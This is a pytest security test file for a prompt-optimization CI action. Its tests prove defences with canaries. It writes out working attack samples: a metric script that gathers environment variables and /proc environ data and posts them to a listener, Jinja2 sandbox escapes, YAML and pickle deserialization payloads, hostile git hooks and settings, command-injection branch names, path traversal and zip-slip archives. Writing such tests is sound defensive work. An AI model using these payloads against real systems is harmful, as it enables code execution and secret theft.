"""Attacks by files, code and settings of a pull request; each is proved by a canary."""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import sqlite3
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import github_events as events
import jinja2
import pytest
import yaml
from canaries import (
    BASE,
    Listener,
    call_home,
    changed_config,
    commands,
    gated,
    leaks,
    posted,
    propose,
    propose_link,
    set_base,
    worse_than_good,
)
from forge_world import GOOD, KEY, forge_world
from github_server import WORKFLOW_TOKEN
from world import CONFIG, PROMPT, plain_command

if TYPE_CHECKING:
    from collections.abc import Iterator

    from forge_world import Ended, ForgeWorld

_ROOT = Path(__file__).parents[2]
_METRIC = "def score(example, output):\n    return 1.0 if output == example.expected else 0.0\n"
_SHADOWS = ("sitecustomize", "usercustomize", "gepa_ci", "yaml", "json", "git", "dspy", "click")


@pytest.fixture
def world(tmp_path: Path) -> Iterator[ForgeWorld]:
    with forge_world(tmp_path) as made:
        yield made


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as made:
        yield made


class _Bomb:
    """Creates a file when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return Path.touch, (self._canary,)  # type: ignore[return-value]


def _clone(world: ForgeWorld, branch: str) -> Path:
    tree = world.folder / f"clone-{branch}"
    subprocess.run(
        ["git", "clone", "--quiet", "--branch", branch, world.git.path.as_uri(), str(tree)],
        check=True,
    )
    subprocess.run(["git", "branch", "--force", "base", "origin/main"], cwd=tree, check=True)
    return tree


def _judged_by_code(world: ForgeWorld) -> None:
    """Let the base be judged by a metric of its own, and be good."""
    config = changed_config(world, parcels__metric="metric.py:score")
    set_base(world, {CONFIG: config, "metric.py": _METRIC.encode(), PROMPT: GOOD})


# Pwn request


def test_pwn_request_by_pull_request_target_is_refused(world: ForgeWorld) -> None:
    number = propose(world, {PROMPT: GOOD})

    ended = world.run("pull_request_target", events.pull_request(world.server, number))

    assert ended.code == 2
    assert "use `pull_request`" in ended.log
    assert world.provider.calls == 0
    assert world.server.writes == []


@pytest.mark.parametrize("has_key", [True, False])
def test_pwn_request_by_a_fork_runs_nothing_of_it_and_never_spends(
    world: ForgeWorld, listener: Listener, *, has_key: bool
) -> None:
    payload = call_home(listener, "fork").encode()
    head = world.git.commit(
        "eve", {PROMPT: GOOD, "metric.py": payload, "sitecustomize.py": payload}, parent="main"
    )
    number = world.server.open_fork_pull(head)["number"]
    world.git.git("update-ref", f"refs/pull/{number}/head", head)
    world.environment = {} if has_key else {"OPENAI_API_KEY": ""}

    ended = gated(world, number)
    labeled = world.run("pull_request", events.labeled(world.server, number))

    assert (ended.code, labeled.code) == (0, 0)
    assert "comes from a fork" in ended.log
    assert world.provider.calls == 0
    assert listener.heard == []
    assert world.server.writes == []


# Code, exam and endpoint of the pull request


def _hostile_exam(world: ForgeWorld, listener: Listener) -> dict[str, bytes]:
    """Return a pull request that changes all that decides its verdict."""
    easy = json.dumps({"id": "easy", "inputs": {"input": "POISON topic-0"}, "expected": "unknown"})
    attack = call_home(listener, "metric") + "def score(example, output):\n    return 1.0\n"
    config = changed_config(
        world,
        models={"task": {"model": "openai/task", "api_base": f"{listener.url}/v1"}},
        spend={"calls": 100_000},
        parcels__gate={"margin": 0.99},
        parcels__metric="metric.py:score",
    )
    return {
        CONFIG: config,
        "metric.py": attack.encode(),
        "held_out.jsonl": f"{easy}\n".encode(),
        "train.jsonl": f"{easy}\n".replace("easy", "hard").replace("topic-0", "topic-1").encode(),
        PROMPT: worse_than_good(),
    }


def test_pull_request_supplied_metric_config_suite_thresholds_and_endpoint_are_not_used(
    world: ForgeWorld, listener: Listener
) -> None:
    _judged_by_code(world)
    number = propose(world, _hostile_exam(world, listener))

    ended = gated(world, number)

    assert ended.code == 1, ended.log
    assert ended.outputs["verdict"] == "regression"
    assert listener.heard == []
    assert not any("POISON" in request.text for request in world.provider.requests)
    (task,) = ended.result["tasks"]
    assert task["baseline"]["n"] == 40
    note = "The exam differs between base and head (gepa-ci.yml, held_out.jsonl, metric.py"
    assert any(text.startswith(note[:47]) for text in task["notes"]), task["notes"]


def test_those_canaries_fire_when_the_head_is_trusted(
    world: ForgeWorld, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    _judged_by_code(world)
    propose(world, _hostile_exam(world, listener))
    tree = _clone(world, "change")
    monkeypatch.setenv("OPENAI_API_KEY", KEY)

    plain_command(
        *("gate", "--base", "base", "--trust", "head", "--config", str(tree / CONFIG)),
    )

    assert any(heard.startswith("GET /metric") for heard in listener.heard)
    assert any(KEY in heard for heard in listener.heard)


def test_dataset_poisoning_does_not_reach_an_optimization_of_the_pull_request(
    world: ForgeWorld, listener: Listener
) -> None:
    hostile = _hostile_exam(world, listener)
    del hostile[PROMPT]
    number = propose(world, {**hostile, PROMPT: BASE.replace(b"codes", b"codes,")})

    ended = world.run(
        "pull_request", events.labeled(world.server, number), ref=world.merge_ref(number)
    )

    assert ended.code == 0, ended.log
    assert world.provider.calls > 0
    assert not any("POISON" in request.text for request in world.provider.requests)
    assert listener.heard == []


@pytest.mark.parametrize("keeps_task", [True, False])
def test_exam_tampering_by_pointing_the_task_elsewhere_does_not_hide_a_changed_prompt(
    world: ForgeWorld, *, keeps_task: bool
) -> None:
    set_base(world, {PROMPT: GOOD})
    copy = "copy.prompt.yml"
    config = json.loads(world.files[CONFIG])
    config["tasks"]["parcels"]["prompts"] = [copy]
    if not keeps_task:
        config["tasks"] = {"other": config["tasks"]["parcels"]}
    number = propose(
        world, {CONFIG: json.dumps(config).encode(), copy: GOOD, PROMPT: worse_than_good()}
    )

    ended = gated(world, number)

    assert ended.code == (2 if keeps_task else 1), ended.log
    (check,) = world.server.checks(world.git.branches()["change"])
    assert check["conclusion"] == "failure"


def test_endpoint_in_a_prompt_file_is_not_followed(world: ForgeWorld, listener: Listener) -> None:
    keys = "".join(
        f"  {name}: {listener.url}/v1\n"
        for name in ("api_base", "apiBase", "base_url", "baseUrl", "endpoint", "api_key")
    )
    top = f"api_base: {listener.url}/v1\nmodel: openai/task\nmodelParameters:\n{keys}"
    number = propose(world, {PROMPT: top.encode() + GOOD})

    gated(world, number)

    assert listener.heard == []


def test_denial_of_wallet_by_raising_the_caps_spends_what_the_base_allows(
    world: ForgeWorld,
) -> None:
    set_base(world, {CONFIG: changed_config(world, spend={"calls": 20})})
    number = propose(world, {CONFIG: changed_config(world, spend={"calls": 9999}), PROMPT: GOOD})

    ended = gated(world, number)

    assert ended.code in {2, 3}
    assert world.provider.calls <= 20
    (check,) = world.server.checks(world.git.branches()["change"])
    assert check["conclusion"] != "success"


def test_loop_is_not_started_by_our_own_branch(world: ForgeWorld) -> None:
    number = propose(world, {PROMPT: GOOD}, branch="gepa-ci/main/parcels-12345678")

    labeled = world.run("pull_request", events.labeled(world.server, number))
    asked = world.run(
        "issue_comment", events.issue_comment(world.server, number, "/gepa-ci optimize")
    )

    assert (labeled.code, asked.code) == (0, 0)
    assert world.provider.calls == 0
    assert len(world.server.pulls) == 1


def test_bot_condition_spoof_gives_no_right_to_ask(world: ForgeWorld) -> None:
    number = propose(world, {PROMPT: GOOD})
    world.server.world.roles["github-actions"] = "read"
    for login in ("github-actions", "dependabot"):
        payload = events.issue_comment(world.server, number, "/gepa-ci gate", login=login)

        ended = world.run("issue_comment", payload)

        assert ended.code == 0
    assert world.provider.calls == 0


# Modules and programs of the checkout


def test_workspace_modules_do_not_shadow_ours(world: ForgeWorld, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    payload = f"open({str(canary)!r}, 'a').close()\n".encode()
    files = {f"{name}.py": payload for name in _SHADOWS} | {
        "numpy/__init__.py": payload,
        "uv.toml": b"broken",
        "pip.conf": b"broken",
    }
    _judged_by_code(world)
    number = propose(world, {**files, PROMPT: worse_than_good()})

    ended = gated(world, number)

    assert ended.code == 1, ended.log
    assert not canary.exists()

    subprocess.run([sys.executable, "-c", "import yaml"], cwd=_clone(world, "change"), check=True)

    assert canary.exists(), "the canary must fire where the checkout comes first"


def test_supply_chain_is_pinned_by_hashes_and_shas() -> None:
    lock = (_ROOT / "requirements" / "runtime.txt").read_text(encoding="utf-8")
    packages = [line for line in lock.splitlines() if line and line[0] not in " #-"]
    used = [
        step["uses"]
        for path in (_ROOT / ".github" / "workflows").glob("*.yml")
        for job in yaml.safe_load(path.read_text(encoding="utf-8"))["jobs"].values()
        for step in job.get("steps", [])
        if "uses" in step and not step["uses"].startswith("./")
    ]

    assert packages
    assert lock.count("--hash=sha256:") >= len(packages)
    assert all(len(name.partition("@")[2]) == 40 for name in used)


def test_expressions_in_composite_run_steps_are_absent() -> None:
    action = yaml.safe_load((_ROOT / "action.yml").read_text(encoding="utf-8"))

    assert all("${{" not in step.get("run", "") for step in action["runs"]["steps"])
    assert all("uses" not in step for step in action["runs"]["steps"])


# What user code of the base can reach


def test_metric_code_of_the_base_reaches_no_key_no_token_and_no_file_of_the_runner(
    world: ForgeWorld, listener: Listener
) -> None:
    spy = f"""
import glob, json, os, urllib.request
def score(example, output):
    found = [json.dumps(dict(os.environ))]
    for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            found.append(name + " " + open(name, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    for name in ("output", "summary", "env", "path"):
        try:
            open({str(world.folder)!r} + "/run-1/" + name, "a").write("verdict=improved\\n")
            found.append("WROTE " + name)
        except OSError:
            pass
    body = "\\n".join(found).encode()
    urllib.request.urlopen(urllib.request.Request({listener.url!r} + "/spy", data=body))
    return 1.0
"""
    set_base(
        world,
        {
            CONFIG: changed_config(world, parcels__metric="metric.py:score"),
            "metric.py": spy.encode(),
        },
    )
    number = propose(world, {PROMPT: GOOD})
    # Other processes of this machine are looked at too, and must not be taken for ours.
    key, token = "sk-canary-of-the-spy-0123456789", "ghs_canary_of_the_spy"
    world.server.add_token(token)
    world.environment = {"OPENAI_API_KEY": key}

    gated(world, number, token=token)

    heard = "\n".join(listener.heard)
    assert "/spy" in heard
    assert "PATH" in heard
    assert key not in heard
    assert token not in heard
    if "WROTE" in heard:
        pytest.skip("this kernel has no Landlock, which keeps user code from other files")


# Settings and hooks of the checkout, git's options


def test_hostile_repository_config_hooks_and_filters_run_nothing(
    world: ForgeWorld, tmp_path: Path, listener: Listener
) -> None:
    canary = tmp_path / "canary"
    script = f"touch {canary}"

    def plant(tree: Path) -> None:
        hooks = tree / ".git" / "hooks"
        hooks.mkdir(exist_ok=True)
        for name in ("pre-push", "reference-transaction", "post-index-change", "fsmonitor", "x"):
            (hooks / name).write_text(f"#!/bin/sh\n{script}\n")
            (hooks / name).chmod(0o755)
        settings = {
            "core.fsmonitor": str(hooks / "x"),
            "core.hooksPath": str(hooks),
            "core.sshCommand": script,
            "core.pager": script,
            "core.alternateRefsCommand": script,
            "diff.external": script,
            "diff.evil.textconv": script,
            "filter.evil.clean": script,
            "filter.evil.smudge": script,
            "credential.helper": f"!{script}",
            "gpg.program": str(hooks / "x"),
            "commit.gpgSign": "true",
            "push.gpgSign": "if-asked",
            f"url.{listener.url}/.insteadOf": world.server.url,
        }
        for key, value in settings.items():
            subprocess.run(["git", "config", key, value], cwd=tree, check=True)
        (tree / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil\n")

    world.prepare = plant
    set_base(world, {".gitattributes": b"* filter=evil diff=evil\n"})

    ended = world.run("schedule", events.schedule(world.server))

    assert ended.code == 0, ended.log
    assert ended.outputs["pull-request-operation"] == "created"
    assert not canary.exists()
    assert not any("Authorization" in heard for heard in listener.heard)
    assert listener.heard == []


def test_that_canary_fires_when_git_heeds_the_checkout(world: ForgeWorld, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    tree = _clone(world, "main")
    hook = tree / "hook"
    hook.write_text(f"#!/bin/sh\ntouch {canary}\n")
    hook.chmod(0o755)

    subprocess.run(
        ["git", "-c", f"core.fsmonitor={hook}", "status"], cwd=tree, check=True, capture_output=True
    )

    assert canary.exists()


@pytest.mark.parametrize(
    "name",
    [
        "--upload-pack=touch {canary}",
        "x$(touch${{IFS}}{canary})",
        "../../../config",
        "x\n::set-output name=verdict::improved",
    ],
)
def test_git_option_and_ref_injection_by_a_branch_name_does_nothing(
    world: ForgeWorld, tmp_path: Path, name: str
) -> None:
    canary = tmp_path / "canary"
    number = propose(world, {PROMPT: BASE.replace(b"codes", b"codes,")})
    payload = events.labeled(world.server, number)
    payload["pull_request"]["head"]["ref"] = name.format(canary=canary)
    world.provider.answer = lambda _: "unknown"

    ended = world.run("pull_request", payload, ref=world.merge_ref(number))

    assert ended.code in {0, 2, 3}, ended.log
    assert "Traceback" not in ended.log
    assert not canary.exists()
    assert commands(ended.log) == []


@pytest.mark.parametrize(
    "path",
    ["../secret.txt", "/etc/hostname", ".git/config", "--output=canary", "a/../../secret.txt"],
)
def test_path_traversal_in_the_head_s_config_reads_nothing(world: ForgeWorld, path: str) -> None:
    world.prepare = lambda tree: (tree.parent / "secret.txt").write_text("CANARY {{input}}")
    config = changed_config(world, parcels__prompts=[path])
    number = propose(world, {CONFIG: config, PROMPT: GOOD})

    ended = gated(world, number)

    assert "Traceback" not in ended.log
    assert not any("CANARY" in request.text for request in world.provider.requests)
    assert not any("[core]" in request.text for request in world.provider.requests)
    assert "CANARY" not in posted(world)
    assert not list(ended.folder.rglob("*canary*"))


@pytest.mark.parametrize("target", ["../secret.txt", "/etc/passwd", ".git/config"])
def test_symlink_in_place_of_a_prompt_is_not_followed(world: ForgeWorld, target: str) -> None:
    world.prepare = lambda tree: (tree.parent / "secret.txt").write_text("messages: [CANARY]")
    number = propose_link(world, PROMPT, target)

    ended = gated(world, number)

    assert ended.code == 2
    assert "not a plain file" in ended.log
    assert world.provider.calls == 0
    assert "CANARY" not in posted(world)


@pytest.mark.parametrize("name", ["result", "state"])
def test_symlink_at_the_place_of_a_file_of_ours_is_not_written_through(
    world: ForgeWorld, tmp_path: Path, name: str
) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    number = propose_link(world, "ours", str(victim / "file" if name == "result" else victim))

    ended = gated(world, number, **{name: "ours"})

    assert ended.code == 2
    assert list(victim.iterdir()) == []


def test_hostile_file_names_are_shown_and_not_obeyed(world: ForgeWorld, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    name = f"--output={'x'}; touch canary\t::error::@octocat <img src=x>.prompt.yml"
    config = changed_config(world, parcels__prompts=[name])
    number = propose(world, {CONFIG: config, name: GOOD, PROMPT: None})

    ended = gated(world, number)

    assert "Traceback" not in ended.log
    assert commands(ended.log) == []
    assert not canary.exists()


# Files that unpack to more than text


_TEMPLATES = {
    "an escape": "{{ cycler.__init__.__globals__.os.system('touch CANARY') }}",
    "another escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% set x = 'touch CANARY' %}",
    "a format": "{{ '{0.__class__.__init__.__globals__}'.format(input) }}",
    "an include": "{% include '/etc/passwd' %}{% import 'os' as os %}",
    "a string bomb": "{{ 'a' * 10**10 }}{{ 'x'.center(10**10) }}",
    "a loop bomb": "{% for a in range(9999) %}{% for b in range(9999) %}x{% endfor %}{% endfor %}",
}


@pytest.mark.parametrize("name", sorted(_TEMPLATES))
def test_template_injection_in_a_jinja_prompt_neither_escapes_nor_explodes(
    world: ForgeWorld, tmp_path: Path, name: str
) -> None:
    canary = tmp_path / "canary"
    prompt = "kind.j2"
    config = changed_config(world, parcels__prompts=[prompt])
    set_base(world, {CONFIG: config, prompt: b"Name the code.\n{{ input }}\n", PROMPT: None})
    source = _TEMPLATES[name].replace("CANARY", str(canary))
    number = propose(world, {prompt: f"{source}\n{{{{ input }}}}\n".encode()})

    ended = gated(world, number)

    assert ended.code == 2, ended.log
    assert not canary.exists()
    assert world.provider.calls == 0
    assert "root:" not in ended.log


def test_that_template_canary_fires_outside_of_the_sandbox(tmp_path: Path) -> None:
    canary = tmp_path / "canary"

    jinja2.Template(_TEMPLATES["an escape"].replace("CANARY", str(canary))).render()

    assert canary.exists()


def _yaml_bomb() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    return "\n".join(lines)


@pytest.mark.parametrize(
    "source",
    [
        "messages: !!python/object/apply:os.system ['touch CANARY']\n",
        "messages:\n- role: system\n  content: !!python/object/apply:os.system ['touch CANARY']\n",
        f"{_yaml_bomb()}\nmessages: *a11\n",
    ],
    ids=["an object", "an object in a message", "a bomb of aliases"],
)
@pytest.mark.parametrize("path", [PROMPT, CONFIG])
def test_yaml_deserialization_and_alias_bombs_do_nothing(
    world: ForgeWorld, tmp_path: Path, source: str, path: str
) -> None:
    canary = tmp_path / "canary"
    number = propose(world, {PROMPT: GOOD, path: source.replace("CANARY", str(canary)).encode()})

    ended = gated(world, number)

    assert ended.code == (2 if path == PROMPT else 0), ended.log
    assert "Traceback" not in ended.log
    assert not canary.exists()


def test_that_yaml_canary_fires_in_an_unsafe_loader(tmp_path: Path) -> None:
    canary = tmp_path / "canary"

    yaml.unsafe_load(f"!!python/object/apply:os.system ['touch {canary}']")

    assert canary.exists()


def _plant_pickle(folder: Path, canary: Path) -> None:
    bomb = pickle.dumps(_Bomb(canary))
    for name in (
        *("responses.sqlite", "gepa_state.bin", "cache.db", "checkpoints/x.jsonl"),
        *("gepa_state.pkl", ".gitignore", "journal.json"),
    ):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(bomb)


@pytest.mark.parametrize("keeps_database", [False, True])
def test_pickle_in_the_state_folder_is_not_loaded(
    world: ForgeWorld, tmp_path: Path, *, keeps_database: bool
) -> None:
    canary, state = tmp_path / "canary", tmp_path / "state"
    if keeps_database:
        world.run("schedule", events.schedule(world.server), state=state)
        for path in (state / "checkpoints").iterdir():
            path.write_bytes(pickle.dumps(_Bomb(canary)))
        with sqlite3.connect(state / "responses.sqlite") as database:
            database.execute("UPDATE replies SET reply = ?", (pickle.dumps(_Bomb(canary)),))
        database.close()
    else:
        _plant_pickle(state, canary)

    ended = world.run("workflow_dispatch", events.workflow_dispatch(world.server), state=state)

    assert ended.code == 2, ended.log
    assert "Traceback" not in ended.log
    assert not canary.exists()


@pytest.mark.parametrize("kind", ["every file", "a new file", "the branch"])
def test_pickle_on_the_data_branch_is_not_loaded(
    world: ForgeWorld, tmp_path: Path, kind: str
) -> None:
    canary = tmp_path / "canary"
    bomb = pickle.dumps(_Bomb(canary))
    payload = events.push(world.server, before="0" * 40, after=world.git.branches()["main"])
    if kind == "the branch":
        world.git.commit("gepa-ci-data", {"baselines.pkl": bomb, "gepa-ci.json": bomb})
    else:
        assert world.run("push", payload).code == 0
        names = world.git.text("ls-tree", "-r", "--name-only", "gepa-ci-data").splitlines()
        changed = names if kind == "every file" else ["ledger.pkl"]
        world.git.commit("gepa-ci-data", dict.fromkeys(changed, bomb))

    ended = world.run("push", payload)

    assert "Traceback" not in ended.log
    assert ended.code in {0, 3}, ended.log
    assert not canary.exists()


def test_that_pickle_canary_fires_when_it_is_loaded(tmp_path: Path) -> None:
    canary = tmp_path / "canary"

    pickle.loads(pickle.dumps(_Bomb(canary)))

    assert canary.exists()


def test_cache_poisoning_by_a_committed_state_folder_changes_nothing(
    world: ForgeWorld, tmp_path: Path
) -> None:
    set_base(world, {PROMPT: GOOD})
    number = propose(world, {PROMPT: worse_than_good()})
    state = tmp_path / "state"
    first = gated(world, number, state=state)
    calls = world.provider.calls
    right = json.dumps({"text": "code-0"})[1:-1]
    database = sqlite3.connect(state / "responses.sqlite")
    database.execute('UPDATE replies SET reply = replace(reply, \'"text":"unknown"\', ?)', (right,))
    database.commit()
    database.execute("PRAGMA journal_mode=DELETE")
    database.close()
    poison = (state / "responses.sqlite").read_bytes()
    world.git.commit("change", {".gepa-ci/responses.sqlite": poison, ".gepa-ci/.gitignore": b"*"})
    world.server.world.checks.clear()

    again = gated(world, number)

    assert (first.code, again.code) == (1, 1)
    assert world.provider.calls == 2 * calls


def test_cache_poisoning_by_naming_a_state_folder_in_the_checkout_is_refused(
    world: ForgeWorld,
) -> None:
    number = propose(world, {PROMPT: GOOD, ".gepa-ci/responses.sqlite": b""})

    ended = gated(world, number, state=Path(".gepa-ci"))

    assert ended.code == 2
    assert "in the checkout" in ended.log
    assert world.provider.calls == 0


def test_caches_are_saved_by_the_default_branch_only() -> None:
    saving = [
        path.name
        for path in (_ROOT / ".github" / "workflows").glob("*.yml")
        if "actions/cache/save@" in (text := path.read_text(encoding="utf-8"))
        or "actions/cache@" in text
    ]

    assert saving == ["gepa-ci-nightly.yml"]


# The two-step posting for forks


def _zip(name: str, content: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return packed.getvalue()


def _fork_result(
    world: ForgeWorld, packed: bytes, *, head: str | None = None
) -> tuple[int, int, Ended]:
    """Let a fork's run have uploaded this, and post it."""
    other = propose(world, {PROMPT: GOOD}, branch="other")
    head = head or world.git.commit("eve", {PROMPT: GOOD, "eve.txt": b""}, parent="main")
    fork = int(world.server.open_fork_pull(head)["number"])
    run = world.server.add_run(head_sha=head, head_branch="main", head_repository=2002)
    world.server.add_artifact(run, "gepa-ci", packed)
    return fork, other, world.run("workflow_run", events.workflow_run(world.server, run))


def test_confused_deputy_posts_on_the_pull_request_of_the_commit_and_never_green(
    world: ForgeWorld,
) -> None:
    mine = propose(world, {PROMPT: GOOD})
    claimed = json.loads(json.dumps(gated(world, mine).result))
    claimed["pull_request"] = claimed["number"] = mine
    task = claimed["tasks"][0]
    task["reasons"] = ["<img src=https://evil.example/x> @octocat fixes #1 ![a](https://evil.x)"]
    comments = len(world.server.comments(mine))

    fork, other, ended = _fork_result(world, _zip("posted.json", json.dumps(claimed).encode()))

    assert ended.code == 0, ended.log
    assert world.server.comments(other) == []
    assert len(world.server.comments(mine)) == comments
    (comment,) = world.server.comments(fork)
    assert "has not been verified" in comment["body"]
    assert "<img" not in comment["body"]
    assert "@octocat" not in comment["body"]
    (check,) = world.server.checks(world.git.branches()["eve"])
    assert check["conclusion"] == "neutral"


@pytest.mark.parametrize("claim", [{"reason": "Nothing was run."}, None])
def test_confused_deputy_does_not_soften_the_verdict_on_a_commit_that_a_fork_has_too(
    world: ForgeWorld, claim: dict[str, str] | None
) -> None:
    set_base(world, {PROMPT: GOOD})
    mine = propose(world, {PROMPT: worse_than_good()})
    judged = gated(world, mine)
    assert judged.code == 1
    head = world.git.branches()["change"]
    content = json.dumps(claim or judged.result).encode()

    _, _, ended = _fork_result(world, _zip("posted.json", content), head=head)

    assert ended.code == 0, ended.log
    assert {check["conclusion"] for check in world.server.checks(head)} == {"failure"}


@pytest.mark.parametrize("kind", ["slip", "bomb", "pickle", "deep", "no zip"])
def test_zip_slip_and_zip_bombs_in_a_fork_s_artifact_do_nothing(
    world: ForgeWorld, tmp_path: Path, kind: str
) -> None:
    canary = tmp_path / "canary"
    packed = {
        "slip": _zip(f"../../..{canary}", b"x"),
        "bomb": _zip("posted.json", b" " * (64 << 20)),
        "pickle": _zip("posted.json", pickle.dumps(_Bomb(canary))),
        "deep": _zip("posted.json", b"[" * 100_000),
        "no zip": pickle.dumps(_Bomb(canary)),
    }[kind]

    _, _, ended = _fork_result(world, packed)

    assert ended.code == 3, ended.log
    assert "not one of ours" in ended.log
    assert not canary.exists()
    assert not list(ended.folder.rglob("canary"))


# Token and key


def test_token_is_in_no_argument_no_setting_and_no_file_and_the_key_in_no_child_of_ours(
    world: ForgeWorld, tmp_path: Path
) -> None:
    log = tmp_path / "git.log"
    git = shutil.which("git")
    wrapper = tmp_path / "bin" / "git"
    wrapper.parent.mkdir()
    wrapper.write_text(
        f'#!/bin/sh\n{{ echo "ARGS $*"; env | grep -v GIT_CONFIG_VALUE; }} >> {log}\n'
        f'exec {git} "$@"\n'
    )
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IEXEC)
    world.environment = {"PATH": f"{wrapper.parent}{os.pathsep}{os.environ['PATH']}"}

    ended = world.run("schedule", events.schedule(world.server))

    assert ended.code == 0, ended.log
    calls = log.read_text().split("ARGS ")[1:]
    assert any(call.startswith("push") for call in calls)
    assert not any(WORKFLOW_TOKEN in call for call in calls)
    # What GitPython asks when it is imported is before everything else.
    assert {call.split("\n")[0] for call in calls if KEY in call} <= {"version"}
    assert leaks(world, ended) == []
